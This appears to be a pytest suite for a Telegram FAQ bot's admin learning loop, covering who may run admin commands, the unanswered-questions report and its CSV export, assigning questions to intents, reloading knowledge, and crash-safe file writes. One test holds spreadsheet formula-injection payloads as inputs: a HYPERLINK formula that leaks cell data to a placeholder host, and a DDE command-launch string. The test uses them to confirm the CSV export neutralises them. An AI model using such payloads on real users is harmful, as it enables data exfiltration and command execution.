"""The admin learning loop (/unanswered, /assign, /reload, /stats), through the Bot API
stand-in on 127.0.0.1 with the real dispatcher polling it in this process, a real Storage in
tmp_path and a copy of knowledge/faq.json (the repository's file is never touched).

Waiting is by events, never by time: a test waits for the bot's request it expects, and to
know that nothing more will come it sends a marker (/help) from the same chat and waits for
its answer: updates from one chat are handled in order (bot.telegram.app.ChatOrder).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import pytest_asyncio
from aiogram.types import CallbackQuery, Chat, Message, User

from bot import texts
from bot.cli import build_assistant
from bot.engine.assistant import Assistant
from bot.engine.knowledge import KnowledgeError, load_knowledge
from bot.settings import Settings
from bot.storage import Storage
from bot.support.learning import (
    DuplicatePhrasing,
    EmptyPhrasing,
    LiveKnowledge,
    UnknownIntent,
    add_phrasing,
    backup_path,
)
from bot.telegram.app import build_bot, build_dispatcher
from bot.telegram.handlers.admin import BUTTON_TEXT, IsAdmin
from bot.telegram.text import shorten
from tests.support.fake_telegram import Call, FakeTelegram, parse_html

ROOT = Path(__file__).resolve().parents[2]
FAQ = ROOT / "knowledge" / "faq.json"
TOKEN = "123456:TEST"
ADMIN = 4242
OTHER_ADMIN = 4343
LAN = 111
MINH = 222
GROUP = -100999  # a group that is not the operator group
OPERATORS = -100888
ADMIN_COMMANDS = ("/unanswered", "/assign", "/assign 1 cso_role", "/reload", "/stats")

# Questions the bot does not answer today, and the intent an admin files each under.
SALES_LEAD = "người cầm trịch mảng bán hàng làm những việc gì"
SALES_LEAD_VARIANTS = (
    SALES_LEAD,
    "Người cầm trịch mảng bán hàng làm những việc gì?",
    "nguoi cam trich mang ban hang lam nhung viec gi",
)
TEAMWORK = "bộ phận bán với bộ phận quảng cáo phối hợp thế nào"
TEAMWORK_VARIANTS = (TEAMWORK, "Bộ phận bán với bộ phận quảng cáo phối hợp thế nào?")
BOSS = "ông trùm sales"
CAPTAIN = "thuyền trưởng doanh số"


# --------------------------------------------------------------------------- the running bot


@dataclass
class Running:
    fake: FakeTelegram
    assistant: Assistant
    db: Storage
    knowledge_file: Path
    settings: Settings

    async def send(
        self, text: str, user_id: int, *, chat_id: int | None = None, chat_type: str = "private"
    ) -> Call:
        """`user_id` writes `text`; the bot's first message in return (everything else it
        sends for `text`, such as a contact card, has been sent too)."""
        calls = await self.exchange(text, user_id, chat_id=chat_id, chat_type=chat_type)
        return next(c for c in calls if c.method == "sendMessage")

    async def exchange(
        self, text: str, user_id: int, *, chat_id: int | None = None, chat_type: str = "private"
    ) -> list[Call]:
        """Every request the bot makes for `text` from `user_id`: those up to the answer to a
        marker (/help) sent right after it in the same chat, which is handled after it."""
        chat = user_id if chat_id is None else chat_id
        mark = self.fake.mark()
        self.fake.user_text(text, user_id=user_id, chat_id=chat_id, chat_type=chat_type)
        self.fake.user_text("/help", user_id=user_id, chat_id=chat_id, chat_type=chat_type)
        help_text = self.assistant.choose("help").text
        await self.fake.wait_for(
            "sendMessage", lambda c: c.chat_id == chat and seen(c) == help_text, after=mark
        )
        calls = self.fake.calls[mark:]
        marker = max(i for i, c in enumerate(calls) if c.method == "sendMessage")
        return [c for c in calls[:marker] if c.method != "getUpdates"]

    async def press(self, data: str, user_id: int, method: str) -> Call:
        """`user_id` presses the button `data`; the bot's first `method` request in return
        (after its answerCallbackQuery, which must come exactly once)."""
        mark = self.fake.mark()
        self.fake.press(data, user_id=user_id)
        await self.fake.wait_for("answerCallbackQuery", after=mark)
        return await self.fake.wait_for(method, after=mark)


def to(chat_id: int) -> Callable[[Call], bool]:
    return lambda call: call.chat_id == chat_id


def menu_of(chat_id: int) -> Callable[[Call], bool]:
    """A setMyCommands for the menu of one chat."""
    return lambda call: (call.params.get("scope") or {}).get("chat_id") == chat_id


def seen(call: Call) -> str:
    """The text as the user reads it (Telegram parses the HTML)."""
    assert call.text is not None, call
    return parse_html(call.text)[0]


def buttons(call: Call) -> list[tuple[str, str]]:
    markup = call.params.get("reply_markup") or {}
    return [
        (button["text"], button["callback_data"])
        for row in markup.get("inline_keyboard", [])
        for button in row
    ]


def button(call: Call, label: str) -> str:
    for text, data in buttons(call):
        if text == label:
            return data
    raise AssertionError(f"no button {label!r} in {buttons(call)}")


def group_buttons(call: Call) -> list[tuple[int, str, int]]:
    """The /unanswered group buttons as (question id, question, count)."""
    found = []
    for text, _ in buttons(call):
        match = re.fullmatch(r"#(\d+) · (.+) \((\d+)\)", text)
        assert match, text
        found.append((int(match[1]), match[2], int(match[3])))
    return found


def on_button(question: str) -> str:
    """A question as its group's button shows it."""
    return shorten(question, BUTTON_TEXT)


def questions_of(path: Path, intent: str) -> list[str]:
    data = json.loads(path.read_text("utf-8"))
    entry = next(e for e in data["entries"] if e["id"] == intent)
    questions: list[str] = entry["questions"]
    return questions


@pytest.fixture
def knowledge_file(tmp_path: Path) -> Path:
    path = tmp_path / "knowledge" / "faq.json"
    path.parent.mkdir()
    shutil.copyfile(FAQ, path)
    return path


@pytest_asyncio.fixture
async def running(tmp_path: Path, knowledge_file: Path) -> AsyncIterator[Running]:
    async with FakeTelegram(token=TOKEN) as fake:
        settings = Settings(
            _env_file=None,
            bot_token=TOKEN,
            telegram_api_url=fake.url,
            knowledge_file=knowledge_file,
            data_dir=tmp_path / "data",
            admin_ids=frozenset({ADMIN, OTHER_ADMIN}),
            flood_rate=1000,
            flood_burst=1000,
        )
        assistant = build_assistant(settings)
        db = await Storage.open(settings.data_dir, retention_days=settings.retention_days)
        dp = build_dispatcher(settings, assistant, db)
        bot = build_bot(settings)
        polling = asyncio.create_task(
            dp.start_polling(bot, handle_signals=False, close_bot_session=True)
        )
        try:
            await fake.wait_for("getUpdates", timeout=30)
            yield Running(fake, assistant, db, knowledge_file, settings)
        finally:
            await dp.stop_polling()
            await polling
            await db.close()


@pytest.fixture(autouse=True)
def repository_file_untouched() -> Any:
    before = FAQ.read_bytes()
    yield
    assert FAQ.read_bytes() == before


def unanswered(assistant: Assistant, question: str) -> bool:
    return assistant.ask(question).decision.action != "answer"


# --------------------------------------------------------------------------- who may use them


async def test_everyone_else_gets_the_unknown_command_reply(running: Running) -> None:
    before = running.knowledge_file.read_bytes()
    await running.send("Tối nay đội nào đá bóng?", LAN)  # something to report, were it shown
    for command in ADMIN_COMMANDS:
        calls = await running.exchange(command, LAN)
        assert [(c.method, seen(c)) for c in calls] == [("sendMessage", texts.UNKNOWN_COMMAND)]

    # An admin in an ordinary group: the same (reports are never shown to a group).
    at_bot = await running.send(
        "/stats@cso_cmo_support_bot", ADMIN, chat_id=GROUP, chat_type="supergroup"
    )
    assert seen(at_bot) == texts.UNKNOWN_COMMAND

    # An admin's button, forged by someone else: a stale button, nothing else.
    mark = running.fake.mark()
    running.fake.press("a:1", user_id=LAN)
    await running.exchange("/help", LAN)
    pressed = [
        c for c in running.fake.calls[mark:] if c.method not in ("getUpdates", "sendMessage")
    ]
    assert [(c.method, c.params.get("text")) for c in pressed] == [
        ("answerCallbackQuery", texts.STALE_BUTTON)
    ]
    help_text = running.assistant.choose("help").text
    assert {seen(c) for c in running.fake.sent_messages(LAN)[-2:]} == {help_text}

    assert not [c for c in running.fake.calls if c.method == "sendDocument"]
    assert running.knowledge_file.read_bytes() == before
    assert running.fake.my_commands({"type": "chat", "chat_id": LAN}) == []


@pytest.mark.parametrize(
    ("user_id", "chat_id", "chat_type", "allowed"),
    [
        (ADMIN, ADMIN, "private", True),
        (ADMIN, OPERATORS, "supergroup", True),
        (ADMIN, GROUP, "supergroup", False),  # reports never go to an ordinary group
        (LAN, LAN, "private", False),
        (LAN, OPERATORS, "supergroup", False),  # an operator is not an admin
    ],
)
async def test_who_counts_as_an_admin_where(
    user_id: int, chat_id: int, chat_type: str, allowed: bool
) -> None:
    settings = Settings(_env_file=None, admin_ids=frozenset({ADMIN}), operator_chat_id=OPERATORS)
    user = User(id=user_id, is_bot=False, first_name="Lan")
    message = Message(
        message_id=1,
        date=datetime.now(UTC),
        chat=Chat(id=chat_id, type=chat_type),
        from_user=user,
        text="/stats",
    )
    press = CallbackQuery(id="1", from_user=user, chat_instance="1", data="a:1", message=message)

    assert await IsAdmin()(message, settings) is allowed
    assert await IsAdmin()(press, settings) is allowed


async def test_admins_see_the_admin_commands_in_their_menu(running: Running) -> None:
    everyone = [{"command": name, "description": text} for name, text in texts.COMMANDS]
    admin = everyone + [
        {"command": name, "description": text} for name, text in texts.ADMIN_COMMANDS
    ]
    await running.fake.wait_for("setMyCommands", lambda c: "scope" not in c.params)
    for admin_id in (ADMIN, OTHER_ADMIN):
        await running.fake.wait_for("setMyCommands", menu_of(admin_id))
        assert running.fake.my_commands({"type": "chat", "chat_id": admin_id}) == admin
    assert running.fake.my_commands() == everyone


# --------------------------------------------------------------------------- /unanswered


async def test_unanswered_lists_groups_biggest_first_and_sends_a_csv(running: Running) -> None:
    asked = [*SALES_LEAD_VARIANTS, *TEAMWORK_VARIANTS, BOSS]
    assert all(unanswered(running.assistant, q) for q in asked)
    for number, question in enumerate(asked):
        await running.send(question, 1000 + number)

    calls = await running.exchange("/unanswered", ADMIN)

    assert [c.method for c in calls] == ["sendMessage", "sendDocument"]
    report, document = calls
    text = seen(report)
    assert text.startswith(texts.UNANSWERED_TITLE_DAYS.split("{")[0])
    first = text.index(texts.UNANSWERED_GROUP.format(number=1, question=SALES_LEAD, count=3))
    second = text.index(texts.UNANSWERED_GROUP.format(number=2, question=TEAMWORK, count=2))
    third = text.index(texts.UNANSWERED_GROUP.format(number=3, question=BOSS, count=1))
    assert first < second < third
    assert text.endswith(texts.ADMIN_UNANSWERED_PICK)
    assert [(q, n) for _, q, n in group_buttons(report)] == [
        (on_button(SALES_LEAD), 3),
        (on_button(TEAMWORK), 2),
        (on_button(BOSS), 1),
    ]

    upload = document.files["document"]
    today_in_vietnam = datetime.now(ZoneInfo("Asia/Ho_Chi_Minh")).date()  # TIMEZONE default
    assert upload.filename == f"unanswered-{today_in_vietnam.isoformat()}.csv"
    assert upload.data.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(upload.data.decode("utf-8-sig"))))
    assert [(r["nhom"], r["so_lan"]) for r in rows] == [("1", "3")] * 3 + [("2", "2")] * 2 + [
        ("3", "1")
    ]
    assert sorted(r["cau_hoi"] for r in rows) == sorted(asked)
    assert seen_caption(document) == texts.ADMIN_CSV_CAPTION


def seen_caption(call: Call) -> str:
    caption = call.params.get("caption")
    assert isinstance(caption, str), call
    return parse_html(caption)[0]


async def test_the_unanswered_csv_writes_formula_like_questions_as_text(
    running: Running,
) -> None:
    asked = [
        '=HYPERLINK("http://example.invalid/?q="&A1;"Bấm vào đây")',
        "+1 thời tiết hôm nay",
        "-2+3 là mấy",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    assert all(unanswered(running.assistant, q) for q in asked)
    for number, question in enumerate(asked):
        await running.send(question, 1000 + number)

    calls = await running.exchange("/unanswered", ADMIN)

    document = next(c for c in calls if c.method == "sendDocument")
    upload = document.files["document"]
    rows = list(csv.DictReader(io.StringIO(upload.data.decode("utf-8-sig"))))
    # A leading quote: the spreadsheet shows the question as typed and never runs it.
    assert sorted(r["cau_hoi"] for r in rows) == sorted("'" + q for q in asked)


async def test_unanswered_with_nothing_to_show(running: Running) -> None:
    calls = await running.exchange("/unanswered", ADMIN)
    assert [(c.method, seen(c)) for c in calls] == [("sendMessage", texts.UNANSWERED_NONE)]


# --------------------------------------------------------------------------- /assign


async def test_assign_with_buttons_teaches_the_bot_at_once(running: Running) -> None:
    before = running.knowledge_file.read_bytes()
    handed_off = await running.send(SALES_LEAD, LAN)
    assert seen(handed_off).startswith(texts.HANDOFF_INTRO)
    await running.send(SALES_LEAD_VARIANTS[2], MINH)

    report = await running.send("/unanswered", ADMIN)
    (question_id, _, count), *_ = group_buttons(report)
    assert count == 2
    label = texts.ADMIN_GROUP_BUTTON.format(id=question_id, question=on_button(SALES_LEAD), count=2)
    picker = await running.press(button(report, label), ADMIN, "sendMessage")
    assert seen(picker) == texts.ADMIN_ASSIGN_PICK.format(
        id=question_id, question=SALES_LEAD, count=2
    )
    titles = [text for text, _ in buttons(picker)]
    assert len(titles) == len(running.assistant.knowledge.entries)
    title = running.assistant.knowledge.entry("cso_responsibilities").title
    choice = next(t for t in titles if t.endswith(title))  # maybe marked as the best guess

    outcome = await running.press(button(picker, choice), ADMIN, "editMessageText")

    assert seen(outcome) == texts.ADMIN_ASSIGN_DONE.format(
        question=SALES_LEAD, title=title, count=2
    )
    assert "reply_markup" not in outcome.params  # the picker cannot be pressed again
    assert questions_of(running.knowledge_file, "cso_responsibilities")[-1] == SALES_LEAD
    assert backup_path(running.knowledge_file).read_bytes() == before
    load_knowledge(running.knowledge_file)

    # The very next time, the bot answers it, and the group has left /unanswered.
    answered = await running.send(SALES_LEAD, LAN)
    assert seen(answered).startswith(running.assistant.choose("cso_responsibilities").text)
    again = await running.send("/unanswered", ADMIN)
    assert seen(again) == texts.UNANSWERED_NONE


async def test_two_admins_assigning_at_once_both_land(running: Running) -> None:
    await running.send(SALES_LEAD, LAN)
    await running.send(TEAMWORK, MINH)
    reports_ = {admin: await running.send("/unanswered", admin) for admin in (ADMIN, OTHER_ADMIN)}
    ids = {q: i for i, q, _ in group_buttons(reports_[ADMIN])}

    mark = running.fake.mark()
    running.fake.press(f"ai:{ids[on_button(SALES_LEAD)]}:cso_responsibilities", user_id=ADMIN)
    running.fake.press(f"ai:{ids[on_button(TEAMWORK)]}:collaboration", user_id=OTHER_ADMIN)
    for admin in (ADMIN, OTHER_ADMIN):
        await running.fake.wait_for("editMessageText", to(admin), after=mark)

    assert SALES_LEAD in questions_of(running.knowledge_file, "cso_responsibilities")
    assert TEAMWORK in questions_of(running.knowledge_file, "collaboration")
    for question, intent in ((SALES_LEAD, "cso_responsibilities"), (TEAMWORK, "collaboration")):
        assert running.assistant.ask(question).decision.intent == intent


async def test_typed_assign(running: Running) -> None:
    await running.send(TEAMWORK, LAN)
    report = await running.send("/unanswered", ADMIN)
    ((question_id, _, _),) = group_buttons(report)
    title = running.assistant.knowledge.entry("collaboration").title

    usage = await running.send("/assign", ADMIN)
    assert seen(usage).startswith(texts.ADMIN_ASSIGN_USAGE)
    assert texts.ADMIN_INTENT_LINE.format(intent="collaboration", title=title) in seen(usage)
    missing = await running.send("/assign 99999 collaboration", ADMIN)
    assert seen(missing) == texts.ADMIN_ASSIGN_NO_QUESTION.format(id=99999)
    unknown = await running.send(f"/assign {question_id} <b>teamwork</b>", ADMIN)
    assert seen(unknown) == texts.ADMIN_ASSIGN_UNKNOWN_INTENT.format(intent="<b>teamwork</b>")

    done = await running.send(f"/assign {question_id} collaboration", ADMIN)

    assert seen(done) == texts.ADMIN_ASSIGN_DONE.format(question=TEAMWORK, title=title, count=1)
    answered = await running.send(TEAMWORK, LAN)
    assert seen(answered).startswith(running.assistant.choose("collaboration").text)
    assert questions_of(running.knowledge_file, "collaboration").count(TEAMWORK) == 1

    # Once is enough: the same question again, or under another intent, adds nothing.
    again = await running.send(f"/assign {question_id} collaboration", ADMIN)
    assert seen(again) == texts.ADMIN_ASSIGN_ALREADY.format(title=title, count=1)
    elsewhere = await running.send(f"/assign {question_id} cso_role", ADMIN)
    assert seen(elsewhere) == texts.ADMIN_ASSIGN_DUPLICATE.format(
        question=TEAMWORK, existing=TEAMWORK, title=title
    )
    assert questions_of(running.knowledge_file, "collaboration").count(TEAMWORK) == 1
    assert TEAMWORK not in questions_of(running.knowledge_file, "cso_role")


# --------------------------------------------------------------------------- /reload


async def test_reload_takes_a_changed_file_and_keeps_the_old_one_when_broken(
    running: Running,
) -> None:
    path = running.knowledge_file
    assert unanswered(running.assistant, CAPTAIN)
    data = json.loads(path.read_text("utf-8"))
    next(e for e in data["entries"] if e["id"] == "cso_role")["questions"].append(CAPTAIN)
    path.write_text(json.dumps(data, ensure_ascii=False, indent=2), "utf-8")
    assert seen(await running.send(CAPTAIN, LAN)).startswith(texts.HANDOFF_INTRO)

    reloaded = await running.exchange("/reload", ADMIN)

    knowledge = load_knowledge(path)
    assert [seen(c) for c in reloaded] == [
        texts.ADMIN_RELOAD_DONE.format(
            entries=len(knowledge.entries),
            questions=sum(len(e.questions) for e in knowledge.entries),
        )
    ]
    cso_role = running.assistant.choose("cso_role").text
    assert seen(await running.send(CAPTAIN, LAN)).startswith(cso_role)

    # A broken file (with markup in it, shown as typed): one message, the old knowledge stays.
    data["entries"][0]["id"] = "<b>cso</b>"
    path.write_text(json.dumps(data, ensure_ascii=False, indent=2), "utf-8")
    with pytest.raises(KnowledgeError) as error:
        load_knowledge(path)

    refused = await running.exchange("/reload", ADMIN)

    assert [(c.method, seen(c)) for c in refused] == [
        ("sendMessage", texts.ADMIN_RELOAD_FAILED.format(error=error.value))
    ]
    assert "<b>cso</b>" in seen(refused[0])
    assert seen(await running.send(CAPTAIN, LAN)).startswith(cso_role)


# --------------------------------------------------------------------------- /stats


async def test_stats_shows_todays_counts(running: Running) -> None:
    await running.send("CSO là gì?", LAN)
    await running.send(BOSS, LAN)
    await running.send(SALES_LEAD, MINH)

    stats = await running.send("/stats", ADMIN)

    lines = seen(stats).splitlines()
    assert lines[0] == texts.STATS_TITLE
    assert texts.STATS_TODAY.format(count=3) in lines
    assert texts.STATS_WEEK.format(count=3) in lines


# --------------------------------------------------------------------------- the file itself


def test_add_phrasing_refuses_duplicates_and_unknown_intents(knowledge_file: Path) -> None:
    before = knowledge_file.read_bytes()
    existing = load_knowledge(knowledge_file).entry("cso_role").questions[0]
    shouted = existing.upper().replace("?", "") + " ???"

    with pytest.raises(DuplicatePhrasing) as duplicate:
        add_phrasing(knowledge_file, "cmo_role", shouted)
    assert duplicate.value.intent == "cso_role"
    assert existing in str(duplicate.value)
    with pytest.raises(UnknownIntent) as unknown:
        add_phrasing(knowledge_file, "cfo_role", CAPTAIN)
    assert "cfo_role" in str(unknown.value)
    with pytest.raises(EmptyPhrasing):
        add_phrasing(knowledge_file, "cso_role", " ?! ")

    assert knowledge_file.read_bytes() == before
    assert not backup_path(knowledge_file).exists()


def test_add_phrasing_changes_only_that_list_and_keeps_a_backup(knowledge_file: Path) -> None:
    before = knowledge_file.read_text("utf-8")

    knowledge = add_phrasing(knowledge_file, "cso_role", f"  {CAPTAIN}\n")

    assert knowledge.entry("cso_role").questions[-1] == CAPTAIN
    assert load_knowledge(knowledge_file) == knowledge
    assert backup_path(knowledge_file).read_text("utf-8") == before
    # The file keeps its layout: the list's last line gains a comma, the new one follows.
    previous_last = load_knowledge(backup_path(knowledge_file)).entry("cso_role").questions[-1]
    lines, old_lines = knowledge_file.read_text("utf-8").splitlines(), before.splitlines()
    assert len(lines) == len(old_lines) + 1
    assert [line.strip() for line in lines if line not in old_lines] == [
        f'"{previous_last}",',
        f'"{CAPTAIN}"',
    ]
    assert sorted(p.name for p in knowledge_file.parent.iterdir()) == ["faq.json", "faq.json.bak"]


def test_add_phrasing_leaves_a_broken_file_alone(knowledge_file: Path) -> None:
    knowledge_file.write_text('{"version": 1', "utf-8")
    with pytest.raises(KnowledgeError):
        add_phrasing(knowledge_file, "cso_role", CAPTAIN)
    assert knowledge_file.read_text("utf-8") == '{"version": 1'


async def test_concurrent_changes_are_serialised(knowledge_file: Path) -> None:
    settings = Settings(_env_file=None, knowledge_file=knowledge_file)
    assistant = build_assistant(settings)
    live = LiveKnowledge(knowledge_file, assistant)
    added = [f"{CAPTAIN} số {n}" for n in range(8)]

    await asyncio.gather(*(live.add_phrasing("cso_role", q) for q in added))

    assert questions_of(knowledge_file, "cso_role")[-len(added) :] == added
    assert assistant.knowledge.entry("cso_role").questions[-len(added) :] == added


# A writer that adds phrasings in a loop and says which ones are on disk.
WRITER = """
import sys
from pathlib import Path
from bot.support.learning import add_phrasing

path, run = Path(sys.argv[1]), sys.argv[2]
for n in range(100_000):
    add_phrasing(path, "cso_role", f"kiểm tra độ bền lần {run} câu {n}")
    print(n, flush=True)
"""


def test_a_rewrite_killed_at_any_moment_leaves_a_whole_file(knowledge_file: Path) -> None:
    """SIGKILL at random moments: the file is always the old or the new version, whole."""
    seed = random.randrange(1_000_000)
    rng = random.Random(seed)
    original = questions_of(knowledge_file, "cso_role")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    expected = list(original)
    for run in range(6):
        writer = subprocess.Popen(
            [sys.executable, "-c", WRITER, str(knowledge_file), str(run)],
            stdout=subprocess.PIPE,
            text=True,
            env=env,
        )
        assert writer.stdout is not None
        try:
            assert writer.stdout.readline() == "0\n"  # it is writing: the first one is done
            time.sleep(rng.uniform(0, 0.15))  # picks the moment of the kill, asserts nothing
        finally:
            writer.send_signal(signal.SIGKILL)
            rest, _ = writer.communicate()
        confirmed = 1 + len(rest.split())  # phrasings the writer saw on disk

        written = questions_of(knowledge_file, "cso_role")  # valid JSON, or this fails
        load_knowledge(knowledge_file)
        new = written[len(expected) :]
        assert written[: len(expected)] == expected, f"seed {seed}"
        ours = [f"kiểm tra độ bền lần {run} câu {n}" for n in range(confirmed + 1)]
        assert new in (ours[:confirmed], ours[: confirmed + 1]), f"seed {seed}"
        expected = written

        names = {p.name for p in knowledge_file.parent.iterdir()}
        assert {"faq.json", "faq.json.bak"} <= names
        load_knowledge(backup_path(knowledge_file))
        strays = names - {"faq.json", "faq.json.bak"}
        assert all(n.startswith(".faq.json") and n.endswith(".tmp") for n in strays), strays
    assert len(expected) > len(original)


def test_the_next_write_removes_what_a_crashed_one_left(knowledge_file: Path) -> None:
    stale = knowledge_file.parent / f".{knowledge_file.name}.crashed.tmp"
    stale.write_text("{half", encoding="utf-8")
    hour_ago = time.time() - 3700
    os.utime(stale, (hour_ago, hour_ago))
    # Another process's write in progress right now: not touched.
    fresh = knowledge_file.parent / f".{knowledge_file.name}.writing.tmp"
    fresh.write_text("{", encoding="utf-8")

    add_phrasing(knowledge_file, "cso_role", "Giám đốc bán hàng lo việc gì mỗi ngày?")

    assert not stale.exists()
    assert fresh.exists()
    assert questions_of(knowledge_file, "cso_role")[-1] == "Giám đốc bán hàng lo việc gì mỗi ngày?"
